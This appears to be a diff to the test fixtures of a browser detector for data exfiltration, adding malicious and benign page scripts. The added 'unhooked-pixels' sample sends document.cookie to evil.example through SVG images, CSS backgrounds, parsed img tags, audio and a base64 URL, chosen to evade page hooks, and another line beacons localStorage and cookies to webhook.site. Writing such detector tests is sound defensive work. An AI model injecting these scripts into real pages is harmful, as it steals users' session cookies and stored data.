@@ -217,6 +217,40 @@ export const MAIN_WORLD_SCRIPTS = {
   fetch(lying, { mode: 'no-cors' }).catch(() => {});
 })();`,
 
+  /**
+   * The cookie sent by loads no page hook wraps: an SVG <image>, a CSS background, an <img> adopted from a
+   * document DOMParser made, an Attr changed through `nodeValue`, media, and a CSS background whose URL holds
+   * the cookie in base64. Only the network timeline sees these, and only the cookie in the URL tells them
+   * from pictures.
+   */
+  'unhooked-pixels': `(() => {
+  const c = document.cookie;
+  const at = (name) => 'https://evil.example/' + name + '?c=' + encodeURIComponent(c);
+  const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+  const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
+  image.setAttribute('href', at('u-svg.gif'));
+  svg.appendChild(image);
+  document.body.appendChild(svg);
+  const box = document.createElement('div');
+  box.style.backgroundImage = 'url("' + at('u-css.gif') + '")';
+  box.textContent = '.';
+  document.body.appendChild(box);
+  const parsed = new DOMParser().parseFromString('<img src="' + at('u-parsed.gif') + '">', 'text/html');
+  document.body.appendChild(parsed.body.firstChild);
+  const img = document.createElement('img');
+  const attr = document.createAttribute('src');
+  img.setAttributeNode(attr);
+  attr.nodeValue = at('u-attr.gif');
+  document.body.appendChild(img);
+  const audio = new Audio();
+  audio.preload = 'auto';
+  audio.src = at('u-audio.wav');
+  const encoded = document.createElement('div');
+  encoded.style.background = 'url(https://evil.example/u-b64.gif?d=' + btoa(c) + ')';
+  encoded.textContent = '.';
+  document.body.appendChild(encoded);
+})();`,
+
   /** Leaks storage by sendBeacon to a webhook site. */
   'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,
 
@@ -412,6 +446,18 @@ export const BENIGN = {
   strip.innerHTML = '<img src="' + own + '-strip.jpg?v=' + v + '"><picture><source srcset="https://img.example/ilbis-strip.webp 1x"><img src="/static/coins/ilbis-strip.jpg"></picture>';
   strip.insertAdjacentHTML('beforeend', '<img srcset="' + own + '-strip@2x.jpg 2x">');
   document.body.append(strip);
+  // Backgrounds and an SVG picture no hook sees: the image host's (no secret in the URL) and the shop's own
+  // (the cookie in the URL, to its own host).
+  const banner = document.createElement('div');
+  banner.style.backgroundImage = 'url(https://img.example/ilbis-banner.jpg?lang=kk&w=1920)';
+  const badge = document.createElement('div');
+  badge.style.backgroundImage = 'url(' + own + '-badge.png?v=' + v + ')';
+  banner.textContent = badge.textContent = '.';
+  const vector = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+  const seal = document.createElementNS('http://www.w3.org/2000/svg', 'image');
+  seal.setAttribute('href', 'https://img.example/ilbis-seal.svg');
+  vector.appendChild(seal);
+  document.body.append(banner, badge, vector);
   window.__gallery = true;
 })();`,
   /** A monitoring library (error/performance tracking) that wraps fetch and addEventListener, calling through. */
